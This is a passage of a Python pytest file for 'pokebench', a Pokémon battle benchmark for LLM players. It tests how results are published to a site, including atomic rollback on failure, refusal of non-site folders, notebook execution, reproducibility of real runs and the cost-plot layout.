    with pytest.raises(PublishError, match="--anchor"):
        publish(["no-anchor"], site, runs_dir=runs)
    assert snapshot(site) == before

    # a failure half-way through writing the pages
    from pokebench.site import build as site_mod

    real = site_mod.text_turns
    calls = []

    def failing(*args: Any, **kwargs: Any) -> str:
        calls.append(1)
        if len(calls) == 2:  # the first replay page is written, the second fails
            raise RuntimeError("disk full")
        return real(*args, **kwargs)

    monkeypatch.setattr(site_mod, "text_turns", failing)
    with pytest.raises(RuntimeError, match="disk full"):
        publish(["no-anchor"], site, anchor="random", runs_dir=runs, n_bootstrap=5)
    assert len(calls) == 2
    assert snapshot(site) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["runs", "site"], "temporary folder left behind"

    monkeypatch.setattr(site_mod, "text_turns", real)
    publish(["no-anchor"], site, anchor="random", runs_dir=runs, n_bootstrap=5)
    assert set(pd.read_csv(site / "ratings.csv")["player"]) == {"random", "heuristic"}
    assert len(list((site / "replays").iterdir())) == len(pd.read_csv(site / "games.csv")) == 2  # the old site is gone
    assert sorted(p.name for p in tmp_path.iterdir()) == ["runs", "site"]


def test_missing_battle_text_templates_fail_before_writing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from pokebench.text import templates

    make_run(tmp_path / "runs", "good", players=BOTS, pairs=1)

    def missing(*args: Any) -> None:
        raise templates.BattleTextError("The battle text templates are missing. Run `make setup` first.")

    monkeypatch.setattr(templates, "load_templates", missing)
    with pytest.raises(PublishError, match="make setup"):
        publish(["good"], tmp_path / "site", runs_dir=tmp_path / "runs", n_bootstrap=0)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["runs"]


def test_a_folder_that_is_not_a_site_is_never_replaced(tmp_path: Path) -> None:
    runs = tmp_path / "runs"
    make_run(runs, "good", players=BOTS, pairs=1)
    precious = tmp_path / "precious"
    precious.mkdir()
    (precious / "thesis.tex").write_text("years of work")
    with pytest.raises(PublishError, match="not a PokéBench site"):
        publish(["good"], precious, runs_dir=runs)
    assert snapshot(precious) == {"thesis.tex": b"years of work"}


def test_a_folder_that_takes_no_files_is_refused_with_the_fix_not_waited_on(tmp_path: Path) -> None:
    """--out /proc/x used to spin for ever: the lock beside the site could not be made, and its folder was there."""
    runs = tmp_path / "runs"
    make_run(runs, "good", players=BOTS, pairs=1)
    with pytest.raises(PublishError, match=r"cannot write in /proc \(No such file or directory: "
                                           r"/proc/\.pokebench-nowhere\.publish\.lock\); choose another --out"):
        publish(["good"], Path("/proc/pokebench-nowhere"), runs_dir=runs)


# ---- reading results back ------------------------------------------------------------------------

def test_load_results_from_site_and_run(runs: Path, tmp_path: Path) -> None:
    out = publish(["mixed"], tmp_path / "site", runs_dir=runs, n_bootstrap=30)
    site = load_results(out)
    run = load_results(runs / "mixed")
    assert site.anchor == "max-damage" and site.llm_players == ["llm-a"] == run.llm_players
    pd.testing.assert_series_equal(site.ratings["elo"], run.ratings["elo"], check_exact=False, rtol=1e-9)
    assert len(site.games) == len(run.games) == 24
    with pytest.raises(PublishError, match="neither a published folder"):
        load_results(tmp_path)


# ---- the notebook --------------------------------------------------------------------------------

def kernel_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """'python3' if it runs this interpreter (the venv's own ipykernel); else a temporary spec."""
    from jupyter_client.kernelspec import KernelSpecManager, NoSuchKernel

    try:
        argv0 = KernelSpecManager().get_kernel_spec("python3").argv[0]
    except NoSuchKernel:
        argv0 = None
    python_names = {"python", "python3", f"python3.{sys.version_info[1]}"}
    if argv0 in python_names or (argv0 and Path(argv0).resolve() == Path(sys.executable).resolve()):
        return "python3"
    spec_dir = tmp_path / "jupyter" / "kernels" / "pokebench-test"
    spec_dir.mkdir(parents=True)
    (spec_dir / "kernel.json").write_text(json.dumps({
        "argv": [sys.executable, "-m", "ipykernel_launcher", "-f", "{connection_file}"],
        "display_name": "pokebench test", "language": "python"}))
    monkeypatch.setenv("JUPYTER_PATH", str(tmp_path / "jupyter"))
    return "pokebench-test"


def test_notebook_runs_against_a_published_site(runs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    nbformat = pytest.importorskip("nbformat")
    nbclient = pytest.importorskip("nbclient")
    out = publish(["mixed"], tmp_path / "site", runs_dir=runs, n_bootstrap=20)
    monkeypatch.setenv("POKEBENCH_SITE", str(out))
    monkeypatch.delenv("MPLBACKEND", raising=False)  # the kernel's inline backend draws the figures
    nb = nbformat.read(REPO / "notebooks" / "analysis.ipynb", as_version=4)
    assert all(not c.get("outputs") for c in nb.cells if c.cell_type == "code"), "commit the notebook without outputs"
    client = nbclient.NotebookClient(nb, timeout=120, kernel_name=kernel_name(tmp_path, monkeypatch),
                                     resources={"metadata": {"path": str(REPO / "notebooks")}})
    client.execute()
    text = "\n".join(o.get("text", "") + json.dumps(o.get("data", {}))
                     for c in nb.cells if c.cell_type == "code" for o in c.outputs)
    assert "llm-a" in text and "max-damage" in text
    images = sum("image/png" in o.get("data", {}) for c in nb.cells if c.cell_type == "code" for o in c.outputs)
    assert images >= 3  # ratings, head to head, cost against rating


# ---- real games --------------------------------------------------------------------------------

@pytest.mark.slow
def test_identical_real_bot_runs_publish_byte_identical_games(stored_run: Path, tmp_path: Path) -> None:
    """Two real runs of the bots (same config, two folders): the same published games, byte for byte,
    but for the times they were played (games.csv's start and end, the logs' `|t:|` lines). One is the
    session's stored run, played on the worker's server; this one starts its own server, as a run does."""
    cwd = tmp_path / "machine1"
    cwd.mkdir()
    proc = subprocess.run([sys.executable, "-m", "pokebench", *stored.ARGS], cwd=cwd,
                          env=dict(os.environ, PYTHONPATH=str(REPO)), capture_output=True, text=True, timeout=600)
    assert proc.returncode == 0, proc.stderr[-3000:]
    outs = [publish([stored.NAME], where / "site", runs_dir=runs, n_bootstrap=20)
            for where, runs in ((tmp_path / "machine0", stored_run), (cwd, cwd / "runs"))]
    games = [pd.read_csv(o / "games.csv").drop(columns=["started_at", "ended_at"]) for o in outs]
    pd.testing.assert_frame_equal(games[0], games[1])
    for sub in ("inputlogs", "teams"):
        assert snapshot(outs[0] / sub) == snapshot(outs[1] / sub), sub
    untimed = [{name: re.sub(rb"\|t:\|\d+\n", b"", data) for name, data in snapshot(o / "logs").items()} for o in outs]
    assert untimed[0] == untimed[1]  # the battle logs differ only in their `|t:|` clock lines
    sheets = json.loads(next((outs[0] / "teams").iterdir()).read_text())
    assert len(sheets["p1"]) == len(sheets["p2"]) == 6
    replay = next((outs[0] / "replays").iterdir()).read_text()
    assert replay.count('<pre class="sheet">') == 12 and "Tera Type: " in replay and "Ability: " in replay
    for name in ("ratings.csv", "pairs.csv", "h2h.csv", "players.json"):
        assert (outs[0] / name).read_bytes() == (outs[1] / name).read_bytes(), name


@pytest.fixture
def read_only_runs(runs: Path, tmp_path: Path) -> Path:
    """`runs` seen through a read-only bind mount (the test runs as root, for whom file modes are no bar)."""
    mount = tmp_path / "ro-runs"
    mount.mkdir()
    if os.geteuid() != 0 or subprocess.run(["mount", "--bind", str(runs), str(mount)], capture_output=True).returncode:
        pytest.skip("a bind mount needs root")
    try:
        subprocess.run(["mount", "-o", "remount,ro,bind", str(mount)], check=True, capture_output=True)
        yield mount
    finally:
        subprocess.run(["umount", str(mount)], check=False)


def test_a_run_on_a_read_only_mount_publishes_to_a_writable_out_with_the_old_command(
        read_only_runs: Path, tmp_path: Path) -> None:
    before = {p.name for p in (read_only_runs / "mixed").iterdir()}
    cmd = [sys.executable, "-m", "pokebench.publish", "mixed", "--runs-dir", str(read_only_runs),
           "--out", str(tmp_path / "site"), "--bootstrap", "5"]
    proc = subprocess.run(cmd, cwd=tmp_path, env=dict(os.environ, PYTHONPATH=str(REPO)), capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    assert "`python -m pokebench.publish` is deprecated; use `pokebench-publish`" in proc.stderr
    assert (tmp_path / "site" / "index.html").is_file() and len(pd.read_csv(tmp_path / "site" / "games.csv"))
    assert {p.name for p in (read_only_runs / "mixed").iterdir()} == before  # nothing made beside the store


def test_the_few_pairs_tag_marks_only_intervals_on_fewer_than_ten_pairs(tmp_path: Path) -> None:
    from pokebench.site.format import FEW_PAIRS

    runs = tmp_path / "runs"
    make_run(runs, "one", players=BOTS, pairs=1)  # each bot: 2 complete pairs
    make_run(runs, "five", players=BOTS, pairs=5)  # each bot: 10 complete pairs
    few = publish(["one"], tmp_path / "one", runs_dir=runs, n_bootstrap=10)
    many = publish(["five"], tmp_path / "five", runs_dir=runs, n_bootstrap=10)
    assert FEW_PAIRS == 10
    assert (few / "index.html").read_text().count(">few pairs</span>") == len(BOTS) - 1  # not the anchor
    assert pd.read_csv(many / "ratings.csv").pairs.min() == FEW_PAIRS
    assert ">few pairs</span>" not in (many / "index.html").read_text()


def test_cost_plot_labels_never_overlap_and_its_cost_axis_starts_at_zero() -> None:
    from matplotlib.backends.backend_agg import FigureCanvasAgg

    from pokebench.site.plots import plot_cost

    # five players at nearly the same cost and Elo (their labels would sit on each other), one free
    ratings = pd.DataFrame({"player": ["model-a-long-name", "model-b", "model-c", "local", "x"],
                            "elo": [1200, 1205, 1198, 900, 1210], "ci_low": [1100, 1100, 1100, 800, 1000],
                            "ci_high": [1300, 1300, 1300, 1000, 1400],
                            "cost_per_game": [0.010, 0.0102, 0.0101, 0.0, 0.0103]})
    fig = plot_cost(ratings)
    assert fig is not None
    renderer = FigureCanvasAgg(fig).get_renderer()
    fig.draw(renderer)
    ax = fig.axes[0]
    assert ax.get_xlim()[0] == 0
    labels = [t for t in ax.texts if t.get_text()]
    assert sorted(t.get_text() for t in labels) == sorted(ratings["player"])
    boxes = [t.get_window_extent(renderer) for t in labels]
    overlapping = [(labels[i].get_text(), labels[j].get_text()) for i in range(len(boxes))
                   for j in range(i + 1, len(boxes)) if boxes[i].overlaps(boxes[j])]
    assert not overlapping


def test_no_cost_plot_when_every_player_with_a_cost_played_for_free() -> None:
    """ch-smoke's two local models at $0 drew a column of points on the left edge of an axis up to $0.00012."""
    from pokebench.site.plots import plot_cost

    ratings = pd.DataFrame({"player": ["local", "ch-local", "max-damage"], "elo": [228, 228, 1000],
                            "ci_low": [-859, -859, 1000], "ci_high": [1316, 1316, 1000],
                            "cost_per_game": [0.0, 0.0, None]})
    assert plot_cost(ratings) is None
    assert plot_cost(ratings.assign(cost_per_game=[0.0, 0.002, None])) is not None


def test_the_decision_record_fills_the_fixed_columns_of_decisions_csv_and_keeps_the_rest_in_extra():
    assert set(DECISION_FIXED) == {"idx", *SHARED_FIELDS}
    record = DecisionRecord.from_dict({"side": "p1", "player": "x", "turn": 3, "sent": "hi"})
    assert (record.turn, record.action, record.extra) == (3, None, {"sent": "hi"})
    assert DecisionRecord.from_dict(record.to_dict()) == record
